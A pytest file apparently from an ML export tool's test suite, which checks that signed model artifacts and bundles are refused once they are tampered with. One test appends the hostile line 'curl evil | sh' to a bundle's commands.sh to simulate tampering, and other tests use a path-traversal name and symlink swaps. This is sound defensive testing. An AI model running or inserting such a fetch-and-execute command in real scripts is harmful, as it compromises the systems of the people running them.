"""Signed artifacts: export/pack --sign, and --trust / EDGEAFFECT_TRUST refusing unsigned or changed models."""
from __future__ import annotations

import json
import os
import shutil
import stat

import pytest

from edgeaffect import signing
from edgeaffect.cli import main
from edgeaffect.errors import EdgeAffectError
from tests.fakes.tiny_model import make_dataset, make_run

pytest.importorskip("model_signing", reason="the `sign` extra (model-signing) is not installed")


@pytest.fixture(scope="module")
def keys(tmp_path_factory):
    base = tmp_path_factory.mktemp("keys")
    return signing.keygen(base / "good"), signing.keygen(base / "other")


@pytest.fixture(scope="module")
def signed(tmp_path_factory, keys):
    """A tiny run exported through the CLI with --sign (ONNX + OpenVINO)."""
    base = tmp_path_factory.mktemp("signed")
    run = make_run(base / "run", data=make_dataset(base / "data"))
    (private, _), _ = keys
    assert main(["export", str(run), "--format", "onnx,openvino", "--exporter", "legacy", "--sign", str(private)]) == 0
    return run


@pytest.fixture
def copy(signed, tmp_path):
    """A fresh copy of the signed run (data path kept), to change."""
    return shutil.copytree(signed, tmp_path / "run")


def _flip_last_byte(path):
    """Change a file in place the way an attacker would: same size, mtime put back."""
    st = os.stat(path)
    data = bytearray(path.read_bytes())
    data[-1] ^= 0xFF
    path.write_bytes(bytes(data))
    os.utime(path, ns=(st.st_atime_ns, st.st_mtime_ns))


def test_export_sign_writes_a_signature_that_verifies(signed, keys):
    (_, public), _ = keys
    assert (signed / signing.SIGNATURE).is_file()
    files = json.loads((signed / signing.SIGNED).read_text())["files"]
    assert {"model.onnx", "openvino/model.xml", "openvino/model.bin", "checkpoint.pt"} <= set(files)
    assert "manifest.json" not in files          # bench/eval rewrite it; its spec is compared instead
    for target in (signed, signed / "model.onnx", signed / "openvino" / "model.xml"):
        assert signing.verify(target, public) == signed


def test_what_later_commands_write_keeps_it_verified(copy, keys):
    (_, public), _ = keys
    (copy / "bench.json").write_text("{}")
    (copy / ".verified.json").write_text("{}")
    m = json.loads((copy / "manifest.json").read_text())
    m["bench"] = {"rows": 4}
    (copy / "manifest.json").write_text(json.dumps(m))
    signing.verify(copy, public)


@pytest.mark.parametrize("name, target", [("model.onnx", "model.onnx"),
                                          ("openvino/model.bin", "openvino/model.xml"),
                                          ("checkpoint.pt", ".")])
def test_a_changed_byte_is_refused(copy, keys, name, target):
    (_, public), _ = keys
    _flip_last_byte(copy / name)
    with pytest.raises(EdgeAffectError, match=f"does not verify.*changed: {name}"):
        signing.verify(copy / target, public)


def test_unsigned_is_refused_only_when_trust_is_configured(copy, keys):
    (_, public), _ = keys
    (copy / signing.SIGNATURE).unlink()
    signing.check_trust(copy, None)              # no trust: nothing changes
    with pytest.raises(EdgeAffectError, match="is not signed"):
        signing.check_trust(copy, public)


def test_another_key_is_refused(copy, keys):
    (_, public), (other_private, other_public) = keys
    with pytest.raises(EdgeAffectError, match="does not verify"):
        signing.verify(copy, other_public)
    signing.sign(copy, other_private)            # re-signed by someone else: the trusted key refuses it
    with pytest.raises(EdgeAffectError, match="does not verify"):
        signing.verify(copy, public)


def test_a_changed_spec_or_an_added_artifact_is_refused(copy, keys):
    (_, public), _ = keys
    m = json.loads((copy / "manifest.json").read_text())
    (copy / "model.int8.onnx").write_bytes((copy / "model.onnx").read_bytes())
    m["artifacts"]["model.int8.onnx"] = dict(m["artifacts"]["model.onnx"])
    (copy / "manifest.json").write_text(json.dumps(m))
    with pytest.raises(EdgeAffectError, match="model.int8.onnx is not covered by its signature"):
        signing.verify(copy, public)
    with pytest.raises(EdgeAffectError, match="not covered"):
        signing.verify(copy / "model.int8.onnx", public)
    m["spec"]["labels"] = list(reversed(m["spec"]["labels"]))
    (copy / "manifest.json").write_text(json.dumps(m))
    with pytest.raises(EdgeAffectError, match="'spec' differs from the signed one"):
        signing.verify(copy / "model.onnx", public)


def test_symlinks_are_refused(copy, keys, tmp_path):
    (private, public), _ = keys
    outside = tmp_path / "outside.onnx"
    shutil.copy(copy / "model.onnx", outside)
    (copy / "model.onnx").unlink()
    (copy / "model.onnx").symlink_to(outside)    # same bytes, but not the run's file
    with pytest.raises(EdgeAffectError, match="does not verify"):
        signing.verify(copy, public)
    with pytest.raises(EdgeAffectError, match="symlink"):
        signing.sign(copy, private)
    with pytest.raises(EdgeAffectError, match="is not signed"):   # a failed signing leaves no half signature
        signing.verify(copy, public)


def test_cli_eval_and_bench_with_trust_and_the_variable(copy, keys, monkeypatch, capsys):
    (_, public), (_, other_public) = keys
    ok = main(["eval", str(copy), "--split", "val", "--trust", str(public)])
    assert ok == 0, capsys.readouterr().err
    capsys.readouterr()
    monkeypatch.setenv(signing.TRUST_ENV, str(other_public))
    assert main(["eval", str(copy), "--split", "val"]) == 1
    err = capsys.readouterr().err
    assert "does not verify" in err and len(err.strip().splitlines()) == 1
    monkeypatch.setenv(signing.TRUST_ENV, str(public))
    original = (copy / "model.onnx").read_bytes()
    _flip_last_byte(copy / "model.onnx")
    args = ["bench", str(copy / "model.onnx"), "--runtime", "onnxruntime", "--batch", "1", "--budget", "0.1",
            "--rounds", "1", "--no-isolate"]
    assert main(args) == 1
    assert "changed: model.onnx" in capsys.readouterr().err
    (copy / "model.onnx").write_bytes(original)
    (copy / signing.SIGNATURE).unlink()
    assert main(args) == 1
    assert "is not signed" in capsys.readouterr().err
    monkeypatch.setenv(signing.TRUST_ENV, "")    # empty: no trust configured, the unsigned run is benched as before
    assert main(args) == 0


@pytest.mark.parametrize("command", [
    ["bench", "{run}"], ["eval", "{run}", "--split", "val"], ["demo", "--model", "{run}", "--headless", "--source", "x.mp4"],
    ["serve", "{run}"], ["build-engine", "{run}"]])
def test_every_loading_command_refuses_an_unsigned_run(tmp_path, keys, monkeypatch, capsys, command):
    (_, public), _ = keys
    run = make_run(tmp_path / "run")
    monkeypatch.setenv(signing.TRUST_ENV, str(public))
    assert main([a.format(run=run) for a in command]) == 1
    err = capsys.readouterr().err
    assert "is not signed" in err and len(err.strip().splitlines()) == 1


def test_pack_sign_covers_every_bundle_file(signed, keys, tmp_path, capsys):
    (private, public), _ = keys
    bundle = tmp_path / "bundle"
    assert main(["pack", str(signed), "--runtime", "onnxruntime", "--out", str(bundle), "--sign", str(private)]) == 0
    files = set(json.loads((bundle / signing.SIGNED).read_text())["files"])
    assert {"model.onnx", "commands.sh", "requirements.txt", "SHA256SUMS"} <= files
    assert any(f.endswith(".whl") for f in files)
    assert main(["sign", "verify", str(bundle), "--trust", str(public)]) == 0
    capsys.readouterr()
    # the trust check passes; what refuses now is the bundle's kind (not a TensorRT one)
    assert main(["build-engine", str(bundle), "--trust", str(public)]) == 1
    assert "onnxruntime bundle" in capsys.readouterr().err
    with open(bundle / "commands.sh", "a") as f:
        f.write("curl evil | sh\n")
    assert main(["build-engine", str(bundle), "--trust", str(public)]) == 1
    assert "changed: commands.sh" in capsys.readouterr().err


def test_a_bad_key_is_refused_before_any_export(tmp_path, keys, capsys):
    (_, public), _ = keys
    run = make_run(tmp_path / "run")
    assert main(["export", str(run), "--format", "onnx", "--sign", str(tmp_path / "missing.key")]) == 1
    assert "no private signing key" in capsys.readouterr().err
    assert main(["export", str(run), "--format", "onnx", "--sign", str(public)]) == 1   # the public half
    assert "cannot use" in capsys.readouterr().err
    assert not (run / "model.onnx").exists()


def test_keygen_keeps_the_private_key_private(tmp_path, monkeypatch, capsys):
    assert main(["sign", "keygen", "--out", str(tmp_path / "k")]) == 0
    private = tmp_path / "k" / signing.PRIVATE_KEY
    assert stat.S_IMODE(private.stat().st_mode) == 0o600
    assert main(["sign", "keygen", "--out", str(tmp_path / "k")]) == 1
    assert "already holds a signing key" in capsys.readouterr().err
    monkeypatch.setenv(signing.PASSWORD_ENV, "s3cret")
    private, _ = signing.keygen(tmp_path / "enc")
    assert b"ENCRYPTED" in private.read_bytes()
    signing.check_key(private)
    monkeypatch.delenv(signing.PASSWORD_ENV)
    with pytest.raises(EdgeAffectError, match=signing.PASSWORD_ENV):
        signing.check_key(private)


def test_without_the_library_only_trust_needs_it(monkeypatch, tmp_path, keys):
    (_, public), _ = keys
    monkeypatch.setitem(__import__("sys").modules, "model_signing", None)
    signing.check_trust(tmp_path, None)
    with pytest.raises(EdgeAffectError, match=r"edgeaffect\[sign\]"):
        signing.check_trust(tmp_path, public)


def test_a_manifest_name_outside_the_folder_is_refused(tmp_path, keys):
    (private, _), _ = keys
    run = make_run(tmp_path / "run")
    m = json.loads((run / "manifest.json").read_text())
    m["artifacts"] = {"../outside.onnx": {"sha256": "0" * 64}}
    (run / "manifest.json").write_text(json.dumps(m))
    with pytest.raises(EdgeAffectError, match="not a path inside"):
        signing.sign(run, private)
    assert not (run / signing.SIGNATURE).exists()
